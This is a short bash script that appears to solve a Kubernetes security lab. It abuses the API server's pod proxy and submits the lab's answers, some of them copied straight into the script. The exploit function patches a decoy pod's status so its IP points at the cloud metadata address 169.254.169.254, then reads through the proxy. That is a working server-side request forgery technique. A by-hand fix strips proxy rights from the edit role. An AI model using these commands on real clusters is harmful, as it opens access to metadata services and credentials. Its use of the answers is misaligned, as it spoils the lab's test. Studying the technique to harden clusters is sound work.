#!/usr/bin/env bash
# The proxy nobody secured: read a page on the wire, forge one behind https, then take the proxy out of the role edit.
set -euo pipefail

pods=/api/v1/namespaces/default/pods

exploit() {
  kubectl get --raw "$pods/https:safe:8443/proxy/" > /dev/null
  kubectl patch pod decoy --subresource=status --type=merge \
    -p '{"status":{"podIP":"169.254.169.254","podIPs":[{"ip":"169.254.169.254"}]}}' > /dev/null
  kubectl get --raw "$pods/decoy:80/proxy/" || true
  minilab lab answer balance "$(kubectl get --raw "$pods/web:8080/proxy/" | cut -d ' ' -f 2)"
}

explain() {
  minilab lab answer credential nothing
  minilab lab answer colon https
  minilab lab answer flag "there is none"
}

harden() { minilab harden apiserver-proxy.grants; }

by_hand() {
  kubectl get clusterrole system:aggregate-to-edit -o yaml |
    sed -e '/- pods\/proxy$/d' -e '/- services\/proxy$/d' -e 's/autoupdate: "true"/autoupdate: "false"/' |
    kubectl replace -f -
  while kubectl auth can-i get pods --subresource=proxy -n default --as system:serviceaccount:default:clerk > /dev/null; do
    sleep 0.5
  done
}

for part in "${@:-exploit explain harden}"; do for one in $part; do "$one"; done; done
